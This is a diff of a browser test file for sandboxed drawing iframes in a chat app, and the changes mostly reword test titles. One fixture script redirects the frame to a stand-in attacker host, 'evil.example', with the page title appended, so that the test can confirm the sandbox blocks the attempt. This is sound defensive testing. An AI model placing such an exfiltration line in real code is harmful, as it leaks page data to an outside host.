@@ -43,7 +43,7 @@ const drawn = (inside: string, title = "") =>
 
 const framesOf = (page: Page) => page.locator("iframe");
 
-test("a frame that was taken over reaches neither cookies, storage, the page, the network nor another address", async () => {
+test("a compromised frame reaches neither cookies, storage, the page, the network nor another address", async () => {
   const { page, ran, answer } = await takeOver(
     answering(`async (id) => {
       const got = [];
@@ -85,7 +85,7 @@ test("a frame that was taken over reaches neither cookies, storage, the page, th
   await composer(page).fill("The page is still there");
 });
 
-test("a frame that leads itself elsewhere gets nowhere, and the page stays", async () => {
+test("a frame that tries to navigate fails, and the page stays", async () => {
   const { page, answer } = await takeOver(
     `addEventListener("message", () => { location.href = "https://evil.example/?" + document.title; });
      parent.postMessage("drawing-frame-ready", "*");`,
@@ -140,7 +140,7 @@ test.each([
   expect(ran).toEqual([]);
 });
 
-test("what other windows say is not heard, and a frame that never answers costs its drawing alone", async () => {
+test("messages of other windows are ignored, and a frame that never answers loses only its own drawing", async () => {
   const { page } = await fixture.openSignedIn();
   await openNewConversation(page, fixture.url);
   await page.evaluate(() => {
@@ -162,7 +162,7 @@ test("what other windows say is not heard, and a frame that never answers costs 
   ]);
 });
 
-test("a frame that says again and again that it has begun gets no more time for it", { timeout: 60_000 }, async () => {
+test("a frame that repeatedly reports that it has started gets no extra time", { timeout: 60_000 }, async () => {
   const { page, answer } = await takeOver(
     answering(
       `(id) => { setInterval(() => port.postMessage({ id, isStarted: true }), 500); return [{ id, isStarted: true }]; }`,
@@ -174,7 +174,7 @@ test("a frame that says again and again that it has begun gets no more time for 
   expect(await framesOf(page).count()).toBe(0);
 });
 
-test("the frame's page may be shown by our page only, and its files are public", async () => {
+test("only our own page may embed the frame's page, and its files are public", async () => {
   const page = await fetch(`${fixture.url}/drawing.html`);
   const policy = page.headers.get("content-security-policy") ?? "";
   expect(policy).toContain("sandbox allow-scripts");
